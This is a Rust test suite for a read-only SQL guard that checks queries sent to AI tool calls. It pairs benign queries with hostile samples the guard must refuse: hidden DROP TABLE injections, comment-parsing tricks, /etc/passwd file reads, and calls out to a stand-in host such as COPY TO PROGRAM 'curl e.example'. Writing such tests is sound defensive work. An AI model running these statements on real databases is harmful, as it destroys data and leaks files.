use super::*;
use bouncer_guest::testing::{call, json, server, tool, tools};

fn codes(sql: &str, dialect: &str) -> Vec<String> {
    let settings = Settings { dialect: dialect.into(), ..Settings::default() };
    let judgement = ReadOnlySql::evaluate(&call("query", json!({"sql": sql})), &[], &settings).unwrap();
    judgement.findings().iter().map(|found| found.code().to_owned()).collect()
}

#[test]
fn plain_reads_pass() {
    for sql in [
        "SELECT a, b FROM t WHERE c = 'drop table t; --' LIMIT 3",
        "WITH x AS (SELECT 1 AS a) SELECT * FROM x UNION ALL SELECT 2",
        "EXPLAIN SELECT 1",
        "SHOW TABLES",
        "SELECT \"update\" FROM t",
        "select url, file from t",
        "SELECT a -- how many; 'x\n, b /* it's */ FROM t --",
        "SELECT 'O''Brien', \"a;b\", `c d`, '# // /* $$' FROM s.t WHERE a = $1 AND c[1] = 2",
        "SELECT a FROM t WHERE b = '[x]; --x /* y' OR b = E'z'",
        "SELECT commit, hash AS revert, checkpoint FROM commits c WHERE commit = 'x' AND rollback",
        "SELECT program, csv FROM program JOIN s.csvs ON true",
        "SELECT a FROM d.information_schema.s.tables",
        "SELECT tags && ARRAY['a', 'b'], -1 - -2 FROM t",
        "WITH t AS (SELECT 1 AS a) TABLE t",
    ] {
        assert_eq!(codes(sql, "generic"), [""; 0], "{sql}");
    }
    for (sql, dialect) in [
        ("SELECT 'it\\'s', '\\d' FROM t # all", "mysql"),
        ("SELECT E'a\\'b', $$x'y$$, a #> '{b}' FROM t", "postgresql"),
        ("SELECT 'C:\\' FROM t", "postgresql"),
        ("SELECT /* /* x */ */ 1 --x", "postgresql"),
        ("SELECT [a'b], t.* FROM @t AS t", "mssql"),
        ("SELECT REGEXP_CONTAINS(a, r'\\d+') FROM `p-x.d.events_*` #all", "bigquery"),
        ("SELECT 5 // 2, '\\d'", "duckdb"),
        ("SELECT q'[it's]' FROM dual", "oracle"),
        ("SELECT dbms_lob.getlength(a), utl_raw.cast_to_varchar2(b) FROM t", "oracle"),
        ("SELECT sqlite_version()", "sqlite"),
    ] {
        assert_eq!(codes(sql, dialect), [""; 0], "{dialect}: {sql}");
    }
}

#[test]
fn what_databases_read_differently_is_refused() {
    for (sql, dialect) in [
        ("SELECT '\\', ' ; DROP TABLE t; -- '", "generic"),
        ("SELECT 'a\\'", "generic"),
        ("SELECT \"a\\\" FROM t", "generic"),
        ("SELECT `a\\` FROM t", "clickhouse"),
        ("SELECT 1 /*! INTO OUTFILE 'x' */", "generic"),
        ("SELECT 1 /*!50000 , sleep(9) */", "mysql"),
        ("SELECT 1 /*M! , sleep(9) */", "postgresql"),
        ("SELECT 1 /*!50000 , sleep(9) */", "sqlite"),
        ("SELECT /* /* */ ' */ , 1 -- '", "generic"),
        ("SELECT /* /* */ */ 1", "generic"),
        ("SELECT 1 --1\n, 2", "generic"),
        ("SELECT --\u{a0}.a, load_file('x')\n 1", "mysql"),
        ("SELECT $$ , load_file('x') , $$", "generic"),
        ("SELECT $a$ ' $a$", "generic"),
        ("SELECT q'[ ', pg_read_file(''x'') ]'", "generic"),
        ("SELECT 1 # ' \n ; DROP TABLE t -- '", "generic"),
        ("SELECT a#b FROM t", "generic"),
        ("SELECT 1 // ' \n ; DROP TABLE t -- '", "generic"),
        ("SELECT 1 -- x\r; DROP TABLE t", "sqlite"),
        ("SELECT 1 -- x\r; DROP TABLE t", "generic"),
        ("SELECT '''; DROP TABLE t --'", "generic"),
        ("SELECT ['] ; DROP TABLE t --']", "generic"),
        ("SELECT `' ; DROP TABLE t -- '` FROM t", "generic"),
        ("SELECT 1 shutdown", "generic"),
        ("SELECT a FROM t WHERE a = 'x' commit", "generic"),
        ("SELECT '\\', 1, ' '", "duckdb"),
        ("SELECT r'\\', ' '", "bigquery"),
        ("SELECT E'a'\n'\\' , ' , pg_read_file(''x'') , '", "postgresql"),
        ("SELECT 1\0", "sqlite"),
    ] {
        let found = codes(sql, dialect);
        assert!(
            found.iter().any(|code| code == "ambiguous_sql" || code == "unread_sql"),
            "{dialect}: {sql}: {found:?}"
        );
    }
    // Where the parser stops by itself, nothing of the above is shown.
    assert_eq!(codes("SELECT 'a\\'", "generic"), ["ambiguous_sql"]);
    assert_eq!(codes("SELECT '\\', ' ; DROP TABLE t; -- '", "generic"), ["ambiguous_sql"]);
    assert_eq!(codes("SELECT $$ , load_file('x') , $$", "mysql"), ["leaves_database"]);
}

#[test]
fn tables_that_lie_elsewhere_leave_the_database() {
    for (sql, dialect) in [
        ("SELECT * FROM 'x.csv'", "duckdb"),
        ("SELECT * FROM 'https://e.example/x'", "duckdb"),
        ("SELECT * FROM \"s3://b/x\"", "generic"),
        ("SELECT * FROM \"C:\\x\"", "postgresql"),
        ("SELECT * FROM a JOIN \"/etc/passwd\" ON true", "generic"),
        ("SELECT * FROM data.parquet", "duckdb"),
        ("SELECT 1 UNION TABLE \"/etc/passwd\"", "generic"),
        ("SELECT * FROM json.`s3://b/x`", "databricks"),
        ("SELECT * FROM t@remote", "generic"),
        ("SELECT * FROM @stage", "snowflake"),
        ("SELECT * FROM a.b.c.d", "mssql"),
        ("SELECT * FROM fsdir WHERE path = '/etc'", "sqlite"),
        ("SELECT utl_http.request('http://e.example') FROM dual", "oracle"),
        ("SELECT sys.dbms_ldap.init('e.example', 1) FROM dual", "oracle"),
        ("SELECT * FROM glob('/etc/*')", "duckdb"),
        ("SELECT * FROM query('SELECT 1')", "duckdb"),
        ("SELECT ts_stat('x')", "postgresql"),
        ("FROM t |> CALL dblink('x')", "bigquery"),
    ] {
        let found = codes(sql, dialect);
        assert!(found.iter().any(|code| code == "leaves_database"), "{dialect}: {sql}: {found:?}");
    }
    assert_eq!(codes("SELECT nextval('s')", "postgresql"), ["writes"]);
}

#[test]
fn everything_else_is_refused() {
    for (sql, dialect, code) in [
        ("DELETE FROM t", "generic", "writes"),
        ("SELECT 1; DROP TABLE t", "generic", "writes"),
        ("COMMIT", "postgresql", "writes"),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "postgresql", "writes"),
        ("SELECT * INTO n FROM t", "postgresql", "writes"),
        ("EXPLAIN ANALYZE DELETE FROM t", "postgresql", "writes"),
        ("SELECT * FROM t FOR UPDATE", "postgresql", "locks"),
        ("COPY t TO PROGRAM 'curl e.example'", "postgresql", "writes"),
        ("SELECT * FROM dblink('host=e.example', 'x') AS t(a int)", "postgresql", "leaves_database"),
        ("SELECT pg_read_file('/etc/passwd')", "postgresql", "leaves_database"),
        ("SELECT * FROM url('http://e.example', CSV)", "clickhouse", "leaves_database"),
        ("SELECT \"pg_catalog\".\"pg_read_file\"('/x')", "postgresql", "leaves_database"),
        ("ATTACH DATABASE 'x' AS y", "sqlite", "writes"),
        ("not sql at all", "generic", "unread_sql"),
        ("", "generic", "unread_sql"),
    ] {
        assert!(codes(sql, dialect).iter().any(|found| found == code), "{sql}: {:?}", codes(sql, dialect));
    }
}

#[test]
fn deep_nesting_is_refused_and_nothing_hangs() {
    let deep = format!("SELECT {}1{}", "(".repeat(20_000), ")".repeat(20_000));
    assert_eq!(codes(&deep, "generic"), ["unread_sql"]);
}

#[test]
fn the_tools_that_take_sql_are_looked_at() {
    let listed = [tool("query", &["sql"]), tool("search", &["query"]), tool("send", &["to"])];
    let said = |settings: &Settings, listed: &[Tool]| -> Vec<String> {
        let contracts = ReadOnlySql::contracts(&server("x"), listed, settings).unwrap();
        contracts.iter().map(|contract| contract.tool().to_owned()).collect()
    };
    assert_eq!(said(&Settings::default(), &listed), ["query"]);
    let described = tools(
        &json!([{"name": "run", "description": "Runs an SQL statement", "inputSchema": {"properties": {"query": {}}}}]),
    );
    assert_eq!(said(&Settings::default(), &described), ["run"]);
    assert_eq!(said(&Settings { tools: vec!["search".into()], ..Settings::default() }, &listed), ["search"]);
    let odd = Settings { dialect: "klingon".into(), ..Settings::default() };
    assert!(ReadOnlySql::contracts(&server("x"), &listed, &odd).is_err());
    // SQL that stands elsewhere is not overlooked in silence.
    let elsewhere =
        ReadOnlySql::evaluate(&call("query", json!({"text": "DROP TABLE t"})), &[], &Settings::default());
    assert_eq!(elsewhere.unwrap().verdict(), Verdict::Deny);
}
